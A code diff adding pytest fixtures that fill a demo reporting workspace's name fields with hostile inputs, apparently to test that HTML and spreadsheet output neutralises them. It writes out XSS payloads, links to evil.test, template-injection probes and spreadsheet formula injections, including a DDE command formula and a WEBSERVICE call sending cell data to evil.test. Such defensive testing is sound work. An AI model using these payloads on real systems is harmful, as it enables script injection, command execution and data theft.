@@ -88,3 +88,78 @@ def write_tiny_park(folder: Path, **overrides: str) -> Path:
 @pytest.fixture
 def tiny_park(tmp_path: Path) -> Path:
     return write_tiny_park(tmp_path / "tiny")
+
+
+# ------------------------------------------------------------------------------ hostile data
+
+#: What an attacker or a careless office puts into name fields: markup, script, a link, a
+#: style that fetches a URL, a spreadsheet formula, a template expression.
+PAYLOADS = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(2)>",
+    '<a href="http://evil.test/a" target="_blank">click</a>',
+    '<span style="fill:url(http://evil.test/b.svg#a)">x</span>',
+    '=HYPERLINK("http://evil.test/c","c")',
+    "{{7*7}}",
+)
+#: The formula payloads that must never become a live cell in tables.xlsx.
+FORMULAS = ('=HYPERLINK("http://evil.test/c","c")', "=cmd|' /C calc'!A0", '=WEBSERVICE("http://evil.test/d?"&A1)')
+
+
+def _with_payloads(values, offset: int = 0):
+    """Each distinct value prefixed with a payload, cycling through them: names stay distinct,
+    and a name repeated on several rows (a candidate with two nodes) stays one name."""
+    distinct = sorted({v for v in values if v})
+    mapping = {v: f"{PAYLOADS[(i + offset) % len(PAYLOADS)]} {v}" for i, v in enumerate(distinct)}
+    return values.map(lambda v: mapping.get(v, v))
+
+
+def write_hostile_demo(folder: Path) -> Path:
+    """The demo park with a payload in every name field: firm, node, zone, candidate and
+    region names (en and zh), benchmark sources, the park's name, a rule's action text and a
+    derived metric's name."""
+    import shutil
+
+    import pandas as pd
+    import yaml
+
+    shutil.copytree(DEMO, folder)
+
+    def rewrite(table: str, columns: dict[str, int]) -> None:
+        frame = pd.read_csv(folder / f"{table}.csv", dtype=str, keep_default_na=False)
+        for column, offset in columns.items():
+            frame[column] = _with_payloads(frame[column], offset)
+        frame.to_csv(folder / f"{table}.csv", index=False)
+
+    rewrite("firms", {"name": 0, "name_zh": 3, "zone": 2})
+    rewrite("chain_nodes", {"name": 1, "name_zh": 4})
+    rewrite("candidates", {"name": 2, "name_zh": 5, "region": 0})
+    rewrite("benchmarks", {"source": 4})
+    settings = yaml.safe_load((folder / "workspace.yaml").read_text(encoding="utf-8"))
+    settings["name"] = FORMULAS[1] + " <img src=x onerror=alert(3)> Park"
+    settings["name_zh"] = FORMULAS[2] + " <script>alert(4)</script> 园区"
+    settings["rules"] = [
+        {"metric": "talent_gap", "action": FORMULAS[0] + " <a href='http://evil.test/e'>train</a>",
+         "action_zh": "<script>alert(5)</script> {{7*7}} 培训"},
+        {"metric": "local_sourcing", "formula": "local_flow_value / output", "unit": "share",
+         "name": '<span style="fill:url(http://evil.test/f.svg#a)">Local sourcing</span>',
+         "name_zh": "=1+1 本地配套", "direction": "higher", "comparison": "<", "threshold": 0.5},
+    ]
+    (folder / "workspace.yaml").write_text(yaml.safe_dump(settings, allow_unicode=True, sort_keys=False),
+                                           encoding="utf-8")
+    return folder
+
+
+@pytest.fixture(scope="session")
+def hostile_reports(tmp_path_factory):
+    """The hostile demo rendered once per test session for 2026-10, en and zh (the browser
+    check keeps its screenshots beside the pages, under reports/browser-check/)."""
+    import shutil
+
+    from ecolib.report import render
+
+    ws = write_hostile_demo(tmp_path_factory.mktemp("hostile") / "demo")
+    out = ROOT / "reports" / "browser-check"
+    shutil.rmtree(out, ignore_errors=True)
+    return {lang: render(ws, ["2026-10"], lang=lang, out=out / lang, progress=lambda s: None)[0]
+            for lang in ("en", "zh")}
